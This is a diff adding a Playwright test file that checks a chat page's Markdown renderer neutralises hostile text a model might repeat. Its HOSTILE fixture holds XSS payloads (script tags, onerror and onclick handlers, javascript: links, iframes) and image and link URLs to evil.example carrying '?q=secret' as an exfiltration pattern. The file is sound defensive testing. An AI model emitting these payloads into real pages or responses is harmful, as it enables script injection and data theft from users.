@@ -1,0 +1,78 @@
+"""A model's Markdown on the chat page: whatever it repeats of a hostile document is harmless."""
+
+import pytest
+from playwright.async_api import Route, expect
+
+from tests.pages.conftest import Opening, ask
+from tests.upstream import Upstream, llama_says
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+
+HOSTILE = (
+    "Look: <script>window.harmed = 1</script> <img src=x onerror='window.harmed = 2'> ",
+    "![a picture](http://evil.example/pixel.png?q=secret) ![ref][p] ",
+    "<iframe src='//evil.example'></iframe> [a link](javascript:window.harmed=3) ",
+    "[another](http://evil.example/?q=secret) <http://evil.example/x> ",
+    "<a href='http://evil.example/raw' onclick='window.harmed=4'>raw</a> ",
+    "<svg><a xlink:href='javascript:window.harmed=5'>svg</a></svg> <style>body{}</style> ",
+    "[data](data:text/html,<script>x</script>) http://evil.example/bare [1]\n\n",
+    "<form action='/x'><img src='http://evil.example/block.png'>\n</form>\n\n",
+    "[p]: http://evil.example/reference.png\n[1]: http://evil.example/instead-of-a-source\n\n",
+    "the end",
+)
+
+
+async def test_hostile_markdown_is_harmless(opening: Opening, upstream: Upstream) -> None:
+    upstream.llama(llama_says(*HOSTILE))
+    async with opening() as page:
+        requested: list[str] = []
+        page.on("request", lambda request: requested.append(request.url))
+        answer = await ask(page)
+        await expect(answer).to_contain_text("the end")
+        await expect(answer).to_contain_text("a picture")
+        await expect(answer).to_contain_text("another (http://evil.example/?q=secret)")
+        await expect(
+            answer.locator("a, img, iframe, script, style, form, svg, math")
+        ).to_have_count(0)
+        assert await page.evaluate("window.harmed") is None
+        assert [url for url in requested if "evil" in url] == []
+
+
+async def test_no_part_of_hostile_markdown_is_active_wherever_it_is_cut(opening: Opening) -> None:
+    async with opening() as page:
+        active = await page.evaluate(
+            """async (text) => {
+                const { rendered } = await import("/static/markdown.js");
+                const found = [];
+                for (let end = 0; end <= text.length; end++) {
+                    const part = document.createElement("div");
+                    part.append(rendered(text.slice(0, end), [], () => ""));
+                    document.body.append(part);
+                    if (part.querySelector("a, img, iframe, script, style, form, svg, button"))
+                        found.push(text.slice(0, end));
+                    part.remove();
+                }
+                return found;
+            }""",
+            "".join(HOSTILE),
+        )
+        assert active == []
+        assert await page.evaluate("window.harmed") is None
+
+
+async def test_a_source_s_own_address_is_a_link(opening: Opening, upstream: Upstream) -> None:
+    upstream.llama(llama_says("See [the law](https://law.example/PP-28?a=1&b=2)."))
+    async with opening() as page:
+
+        async def with_address(route: Route) -> None:
+            response = await route.fetch()
+            body = (await response.text()).replace(
+                '"uri":null', '"uri":"https://law.example/PP-28?a=1&b=2"'
+            )
+            await route.fulfill(response=response, body=body)
+
+        await page.route("**/chat", with_address)
+        link = (await ask(page)).get_by_role("link", name="the law")
+        await expect(link).to_have_attribute("rel", "noopener noreferrer")
+        await expect(link).to_have_attribute("target", "_blank")
